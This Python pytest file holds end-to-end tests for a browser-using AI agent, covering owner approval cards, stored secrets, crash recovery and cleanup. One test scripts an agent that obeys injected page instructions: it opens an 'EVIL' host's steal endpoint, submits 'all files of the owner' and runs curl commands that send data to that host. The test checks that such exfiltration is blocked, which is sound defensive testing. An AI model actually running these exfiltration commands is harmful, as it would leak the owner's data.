"""A task with a browser as an owner meets it: real processes, a real Chromium, sites behind TLS."""

import asyncio
import re
from collections.abc import AsyncIterator
from pathlib import Path

import docker
import pytest

from executors.images import BUILD_S, build_image, project_root
from playground.state import Shown
from tests.support.browsing import browse, click, do, on, open_page, read
from tests.support.sites import EVIL, PASSWORD, SHOP, Sites
from tests.support.world import World

WITHIN_S = 60.0
CARD = "asks for your approval"


@pytest.fixture(scope="module", autouse=True)
def browser_image() -> str:
    client = docker.from_env(timeout=BUILD_S)
    try:
        return build_image(client, project_root(), "browser", lambda line: None)
    finally:
        client.close()


@pytest.fixture
async def sites(tmp_path: Path) -> AsyncIterator[Sites]:
    made = Sites(tmp_path / "sites")
    await made.start()
    yield made
    await made.stop()


@pytest.fixture
async def browsing(world: World, sites: Sites) -> World:
    world.env |= sites.environment()
    await world.start()
    world.says(f"/grant {SHOP}")
    await world.sees(f"All tasks may reach {SHOP} now: reading.")
    return world


def press(world: World, card: Shown, label: str) -> None:
    world.telegram.person.press(card.id, label)


async def test_a_page_is_opened_and_read_and_its_picture_handed_over(
    browsing: World, sites: Sites
) -> None:
    browsing.model.script = browse(
        "see the shop", open_page(f"https://{SHOP}/"), do("screenshot"), read()
    )
    browsing.says("please see the shop")
    result = await browsing.sees('heading "Shop"', WITHIN_S)
    assert re.search(r'link "Sign up" .*\[e\d+\]', result.text)
    await browsing.sees("page.png", WITHIN_S)
    assert sites.posts == []


async def card_after(world: World, *known: Shown) -> Shown:
    ids = {shown.id for shown in known}
    return await world.sees(lambda m: CARD in m.text and m.id not in ids, WITHIN_S)


async def test_a_form_of_two_steps_is_sent_once_it_is_approved(
    browsing: World, sites: Sites
) -> None:
    browsing.model.script = browse(
        "sign up", open_page(f"https://{SHOP}/form"), on("type_text", 'textbox "Name"', text="Ada"),
        on("select_option", "Colour", options=["Green"]), on("type_text", "Day", text="2026-05-04"),
        click('button "Next"'), on("type_text", "Remarks", text="soon, please"),
        click('button "Send"'),
    )  # fmt: skip
    browsing.says("please sign me up")
    card = await card_after(browsing)
    assert f"POST https://{SHOP}/form/done" in card.text
    assert f"Page, as the container says: https://{SHOP}/form/2?name=Ada&colour=Green" in card.text
    assert "name = Ada\ncolour = Green\nremarks = soon, please" in card.text
    await browsing.sees("as its container shows it. Decide by the card.", WITHIN_S)
    assert sites.posts == []
    press(browsing, card, "Approve")
    await browsing.sees("Your order is placed.", WITHIN_S)
    assert sites.posts == [("/form/done", "name=Ada&colour=Green&remarks=soon%2C+please")]


async def test_a_login_uses_a_stored_password_that_nobody_in_the_container_sees(
    browsing: World, sites: Sites
) -> None:
    browsing.says(f"/secret set SHOP_PASSWORD {SHOP} {PASSWORD}")
    await browsing.sees("SHOP_PASSWORD is kept")
    browsing.model.script = browse(
        "log in", open_page(f"https://{SHOP}/login"), on("type_text", 'textbox "User"', text="ada"),
        on("type_secret", 'textbox "Password"', name="SHOP_PASSWORD"), click('button "Log in"'),
    )  # fmt: skip
    browsing.says("please log in")
    card = await card_after(browsing)
    assert "user = ada\npassword = (your secret SHOP_PASSWORD)" in card.text
    assert "With your secret SHOP_PASSWORD" in card.text
    assert "Always" not in str(card)
    press(browsing, card, "Approve")
    await browsing.sees('heading "Hello ada"', WITHIN_S)
    assert [path for path, _ in sites.posts] == ["/login"]
    assert not any(PASSWORD in str(body) for body in browsing.model.bodies)
    assert not any(PASSWORD in text for text in browsing.chat())


async def test_a_password_that_a_page_shows_again_is_taken_out(
    browsing: World, sites: Sites
) -> None:
    browsing.says(f"/secret set SHOP_PASSWORD {SHOP} {PASSWORD}")
    await browsing.sees("SHOP_PASSWORD is kept")
    browsing.model.script = browse(
        "log in", open_page(f"https://{SHOP}/login"), on("type_text", 'textbox "User"', text="eve"),
        on("type_secret", 'textbox "Password"', name="SHOP_PASSWORD"), click('button "Log in"'),
    )  # fmt: skip
    browsing.says("please log in")
    press(browsing, await card_after(browsing), "Approve")
    result = await browsing.sees("Wrong password", WITHIN_S)
    assert "You sent agentai_secret_" in result.text
    assert not any(PASSWORD in str(body) for body in browsing.model.bodies)


async def test_a_checkout_is_held_until_the_owner_decides(browsing: World, sites: Sites) -> None:
    browsing.model.script = browse(
        "buy the lamp", open_page(f"https://{SHOP}/cart"), click('button "Buy now"'),
        open_page(f"https://{SHOP}/cart"), click('button "Buy now"'),
    )  # fmt: skip
    browsing.says("please buy the lamp")
    first = await card_after(browsing)
    assert "item = lamp\ncsrf = (hidden, 4 characters)" in first.text
    assert sites.posts == []
    press(browsing, first, "Deny")
    second = await card_after(browsing, first)
    assert sites.posts == []
    press(browsing, second, "Approve")
    await browsing.sees("Your order is placed.", WITHIN_S)
    assert sites.posts == [("/shop/buy", "item=lamp&csrf=c5f1")]


async def test_even_a_granted_host_gets_no_form_unseen(browsing: World, sites: Sites) -> None:
    browsing.says(f"/grant {SHOP} GET POST")
    await browsing.sees(lambda m: "POST" in m.text and "may reach" in m.text)
    browsing.model.script = browse(
        "buy the lamp", open_page(f"https://{SHOP}/cart"), click('button "Buy now"')
    )
    browsing.says("please buy the lamp")
    card = await card_after(browsing)
    press(browsing, card, "Deny")
    await browsing.sees("The owner said no.", WITHIN_S)
    assert sites.posts == []


async def test_a_table_over_several_pages_is_collected(browsing: World, sites: Sites) -> None:
    take = on("extract_table", "- table", save_as="prices.csv")
    browsing.model.script = browse(
        "collect prices", open_page(f"https://{SHOP}/table"), take, click("Next page"), take,
        click("Next page"), take, do("shell", command="cat prices*.csv | grep -c Item"),
    )  # fmt: skip
    browsing.says("please collect the prices")
    result = await browsing.sees("#1 done", WITHIN_S)
    assert "25" in (await browsing.sees(lambda m: "exit code 0" in m.text, WITHIN_S)).text
    assert result
    assert [get for get in sites.gets if "table" in get] == [
        "/table", "/table?page=2", "/table?page=3",
    ]  # fmt: skip


async def test_a_download_lands_in_the_workspace_under_a_safe_name(browsing: World) -> None:
    browsing.model.script = browse(
        "get the report", do("download", url=f"https://{SHOP}/report.csv"),
        do("shell", command="ls -A; cat 'Report 2026.csv'"),
    )  # fmt: skip
    browsing.says("please get the report")
    result = await browsing.sees("Report 2026.csv", WITHIN_S)
    assert "a,b" in result.text


async def test_a_single_page_app_changes_nothing_without_approval(
    browsing: World, sites: Sites
) -> None:
    browsing.model.script = browse(
        "add bread", open_page(f"https://{SHOP}/app"), on("type_text", "New", text="bread"),
        click('button "Add"'),
    )  # fmt: skip
    browsing.says("please add bread")
    card = await card_after(browsing)
    assert "text = bread" in card.text
    assert sites.notes == ["milk"]
    press(browsing, card, "Once")
    await browsing.sees(f"address: https://{SHOP}/app?count=2", WITHIN_S)
    assert sites.notes == ["milk", "bread"]


async def test_injected_instructions_that_are_obeyed_get_nothing_out(
    browsing: World, sites: Sites
) -> None:
    browsing.model.script = browse(
        "read the news", open_page(f"https://{SHOP}/news"),
        open_page(f"https://{EVIL}/steal?what=everything"), open_page(f"https://{SHOP}/news"),
        on("type_text", "textbox", text="all files of the owner"), click("Send feedback"),
        do("shell", command=f"curl -sS -m 5 -d x https://{EVIL}/steal; curl -sS https://{EVIL}/x"),
    )  # fmt: skip
    browsing.says("please read the news")
    card = await card_after(browsing)
    assert "data = all files of the owner" in card.text
    press(browsing, card, "Deny")
    result = await browsing.sees("#1 done", WITHIN_S)
    assert result
    assert sites.evil == []
    assert sites.posts == []
    shown = str(browsing.model.bodies[-1])
    assert f"This task may not read from {EVIL} yet" in shown


async def test_a_pop_up_becomes_a_tab(browsing: World) -> None:
    browsing.model.script = browse(
        "open it", open_page(f"https://{SHOP}/popup"), click('button "Open"'), do("tabs")
    )
    browsing.says("please open it")
    result = await browsing.sees(f"2: https://{SHOP}/popped", WITHIN_S)
    assert f"1: https://{SHOP}/popup" in result.text


async def test_a_crash_and_a_hang_are_survived_and_told(browsing: World) -> None:
    kill = "for p in $(pgrep -f type=renderer); do kill -9 $p; done"
    browsing.model.script = browse(
        "survive", open_page(f"https://{SHOP}/hang"), do("shell", command=kill), read(),
        click('button "Work"'), open_page(f"https://{SHOP}/"),
        do("shell", command="pkill -9 chromium; sleep 1"), open_page(f"https://{SHOP}/form"),
    )  # fmt: skip
    browsing.says("please survive")
    result = await browsing.sees('heading "Sign up"', WITHIN_S)
    shown = str(browsing.model.bodies[-1])
    assert "The page crashed; it was reopened." in shown
    assert "The page did not answer in time, so it was closed." in shown
    assert "The browser crashed; it was started again." in result.text


async def test_the_owner_looks_in_and_a_cancel_closes_it(browsing: World) -> None:
    browsing.model.script = browse(
        "wait there", open_page(f"https://{SHOP}/cart"), do("wait", seconds=60)
    )
    browsing.says("please wait there")
    async with asyncio.timeout(WITHIN_S):
        while "1 lamp, 49.00" not in str(browsing.model.bodies[-1:]):
            await asyncio.sleep(0.02)
    browsing.says("/look")
    shown = await browsing.sees("What the page looks like now.", WITHIN_S)
    assert f"https://{SHOP}/cart" in shown.text
    asked = browsing.telegram.bot_messages()[0].id
    browsing.says("Show me, please", reply_to=(await browsing.sees("wait there")).id)
    again = await browsing.sees(lambda m: "Its container drew" in m.text and m.id != shown.id, 20)
    assert again.id > asked
    assert "was told" not in str(browsing.chat())
    browsing.says("/cancel 1")
    await browsing.sees("#1 cancelled", WITHIN_S)
    browsing.says("/look 1")
    await browsing.sees("#1 has ended, and its browser is gone.")


# --- how it ends ---


async def a_card_waits(world: World) -> Shown:
    """A task that asks to buy the lamp, and then would look at the shop."""
    world.model.script = browse(
        "buy the lamp", open_page(f"https://{SHOP}/cart"), click('button "Buy now"'),
        open_page(f"https://{SHOP}/"),
    )  # fmt: skip
    world.says("please buy the lamp")
    return await card_after(world)


def browsers(world: World) -> int:
    """The containers of this world's host that hold a browser."""
    client = docker.from_env(timeout=60)
    label = f"agentai.host={(world.home / 'host_id').read_text().strip()}"
    found = client.api.containers(filters={"label": label})
    client.close()
    return sum(container["Image"].startswith("agentai-browser") for container in found)


async def none_is_left(world: World) -> None:
    async with asyncio.timeout(WITHIN_S):
        while await asyncio.to_thread(browsers, world):
            await asyncio.sleep(0.1)


@pytest.mark.parametrize("command", ["/cancel 1", "/stop"])
async def test_what_the_owner_ends_closes_the_browser_and_the_card(
    browsing: World, sites: Sites, command: str
) -> None:
    card = await a_card_waits(browsing)
    assert browsers(browsing) == 1
    browsing.says(command)
    await browsing.sees(lambda m: m.id == card.id and "the task has ended" in m.text, WITHIN_S)
    await none_is_left(browsing)
    assert sites.posts == []


async def test_a_killed_executor_host_leaves_no_browser_and_no_card(
    browsing: World, sites: Sites
) -> None:
    card = await a_card_waits(browsing)
    browsing.executor.kill()
    browsing.executor.start()
    await browsing.executor.ready()
    await browsing.sees(lambda m: m.id == card.id and not m.buttons, WITHIN_S)
    await none_is_left(browsing)
    assert sites.posts == []


async def test_a_card_outlives_a_killed_serve_and_is_used_once(
    browsing: World, sites: Sites
) -> None:
    card = await a_card_waits(browsing)
    browsing.serve.kill()
    browsing.serve.start()
    await browsing.serve.ready()
    press(browsing, card, "Approve")
    await browsing.sees('heading "Shop"', WITHIN_S)
    assert sites.posts == [("/shop/buy", "item=lamp&csrf=c5f1")]
    await none_is_left(browsing)
